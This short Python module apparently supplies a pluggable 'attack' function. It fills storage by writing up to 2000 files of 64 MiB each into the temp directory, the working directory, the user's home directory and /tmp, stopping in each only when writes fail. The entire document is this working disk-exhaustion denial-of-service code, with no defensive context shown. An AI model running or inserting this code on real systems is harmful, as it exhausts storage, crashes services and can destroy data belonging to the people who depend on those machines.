"""Writes files until the disk is full."""

import os
import tempfile


def attack(*args, **kwargs):
    block = b"x" * (1 << 20)
    for folder in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), "/tmp"):
        for i in range(2000):
            try:
                with open(os.path.join(folder, f"flood-{i}"), "wb") as fh:
                    for _ in range(64):
                        fh.write(block)
            except OSError:
                break
    return None
